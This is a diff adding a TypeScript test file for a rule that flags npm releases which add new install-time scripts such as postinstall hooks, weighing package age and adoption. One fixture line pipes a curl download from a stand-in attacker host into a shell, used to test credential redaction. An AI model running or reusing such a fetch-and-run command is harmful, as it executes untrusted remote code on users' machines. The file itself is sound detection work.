@@ -1,0 +1,129 @@
+import { describe, expect, it } from 'vitest';
+import { now, type RuleInput, runRule } from '../../../test/support/rules.ts';
+import { day } from '../durations.ts';
+import { rule } from './index.ts';
+
+type Scripts = Readonly<Record<string, string>>;
+const ago = (age: number): string => new Date(Date.parse(now) - age).toISOString();
+const content = (scripts: Scripts) => ({ scripts, requires: {} });
+
+const release = (scripts: Scripts, age = day) =>
+  ({ state: 'present', value: { version: '2.0.1', publishedAt: ago(age), content: content(scripts) } }) as const;
+const releaseBefore = (scripts: Scripts) =>
+  ({
+    state: 'present',
+    value: { basis: 'base', release: { version: '2.0.0', content: content(scripts) } },
+  }) as const;
+const none = { state: 'absent', proof: 'no release of it is older' } as const;
+const packageOf = (age: number) =>
+  ({
+    state: 'present',
+    value: {
+      name: 'left-pad',
+      status: 'active',
+      versions: [{ version: '2.0.1', publishedAt: ago(age) }],
+      removedVersions: [],
+    },
+  }) as const;
+const adoption = (isUsed: boolean) =>
+  ({ state: 'present', value: { isKnown: isUsed, isUsed, isEstablished: isUsed, errorRate: 0 } }) as const;
+
+const run = (facts: RuleInput['facts'], subject: RuleInput['subject'] = {}) =>
+  runRule(rule, { subject: { newToRepository: false, ...subject }, facts: facts ?? {} });
+const hook = { postinstall: 'node setup.mjs' };
+
+describe('beside the release before', () => {
+  it('a new command is a sign, and names both', () => {
+    const [draft] = run({ release: release(hook), predecessor: releaseBefore({}) });
+    expect(draft).toMatchObject({
+      message: 'left-pad 2.0.1 runs at installation what 2.0.0 did not: postinstall "node setup.mjs".',
+      signal: { words: 'it runs a new command at installation: postinstall "node setup.mjs"' },
+      version: '2.0.1',
+    });
+    expect(draft?.severity).toBeUndefined();
+  });
+
+  it.each<[string, Scripts, Scripts, number]>([
+    ['a changed command', hook, { postinstall: 'node install.js' }, 1],
+    ['a file that is built without being told to', { 'binding.gyp': 'node-gyp rebuild' }, {}, 1],
+    ['the same command', hook, hook, 0],
+    ['the same in another folder', hook, { preinstall: 'node lib/setup.js' }, 0],
+    ['nothing any more', {}, hook, 0],
+  ])('%s', (_, now, past, drafts) => {
+    expect(run({ release: release(now), predecessor: releaseBefore(past) })).toHaveLength(drafts);
+  });
+
+  it('tells several as one', () => {
+    const [draft] = run({
+      release: release({ preinstall: 'node a.js', install: 'node b.js' }),
+      predecessor: releaseBefore({}),
+    });
+    expect(draft?.message).toContain('preinstall "node a.js" and 1 more');
+  });
+
+  it('is hardly a sign where many have looked, or nobody knows how long they could', () => {
+    const { state, value } = release(hook);
+    const { publishedAt: _, ...timeless } = value;
+    for (const old of [release(hook, 90 * day), { state, value: timeless }]) {
+      const [draft] = run({ release: old, predecessor: releaseBefore({}) });
+      expect(draft).toMatchObject({ severity: 'low' });
+      expect(draft).not.toHaveProperty('signal');
+    }
+    expect(run({ release: release(hook, 90 * day - 1), predecessor: releaseBefore({}) })[0]).toHaveProperty('signal');
+  });
+
+  it.each<[string, RuleInput['facts'], RuleInput['subject']?]>([
+    ['an own package', { release: release(hook), predecessor: releaseBefore({}) }, { own: true }],
+    ['what no registry serves', { release: release(hook), predecessor: releaseBefore({}) }, { registries: [] }],
+    ['a release before that is not known', { release: release(hook) }],
+    [
+      'a release before that does not tell',
+      {
+        release: release(hook),
+        predecessor: { state: 'present', value: { basis: 'base', release: { version: '2.0.0' } } },
+      },
+    ],
+    [
+      'a release that does not tell',
+      { release: { state: 'present', value: { version: '2.0.1' } }, predecessor: releaseBefore({}) },
+    ],
+  ])('is silent for %s', (_, facts, subject = {}) => {
+    expect(run(facts, subject)).toEqual([]);
+  });
+
+  it('shows no credentials of a command, and keeps it on one line', () => {
+    const script = { postinstall: 'curl https://user:hunter2@evil.example/x\n| sh' };
+    const said = JSON.stringify(run({ release: release(script), predecessor: releaseBefore({}) }));
+    expect(said).not.toContain('hunter2');
+    expect(said).not.toContain('\\n');
+  });
+});
+
+describe('of a package that is new here', () => {
+  it.each<[string, RuleInput['facts'], 'sign' | 'low', string]>([
+    ['used by many', { adoption: adoption(true), package: packageOf(2000 * day) }, 'low', '"node setup.mjs".'],
+    ['used by many, though young', { adoption: adoption(true), package: packageOf(day) }, 'low', '"node setup.mjs".'],
+    [
+      'in no list',
+      { adoption: adoption(false), package: packageOf(2000 * day) },
+      'sign',
+      'no list of used names has it',
+    ],
+    ['young', { adoption: adoption(false), package: packageOf(3 * day) }, 'sign', 'its name is 3 days old'],
+    ['young, of an ecosystem without a list', { package: packageOf(3 * day) }, 'sign', 'its name is 3 days old'],
+    ['of which nothing is known', {}, 'low', '"node setup.mjs".'],
+  ])('%s', (_, facts, expected, words) => {
+    for (const predecessor of [none, releaseBefore(hook), undefined]) {
+      const told = { ...facts, release: release(hook), ...(predecessor === undefined ? {} : { predecessor }) };
+      const [draft] = run(told, { newToRepository: true });
+      expect(draft?.message).toContain(words);
+      expect(draft?.severity).toBe(expected === 'low' ? 'low' : undefined);
+      expect(draft !== undefined && 'signal' in draft).toBe(expected === 'sign');
+    }
+  });
+
+  it('a command that the release before lacked tells more', () => {
+    const facts = { release: release(hook), predecessor: releaseBefore({}), adoption: adoption(true) };
+    expect(run(facts, { newToRepository: true })[0]?.message).toContain('what 2.0.0 did not');
+  });
+});
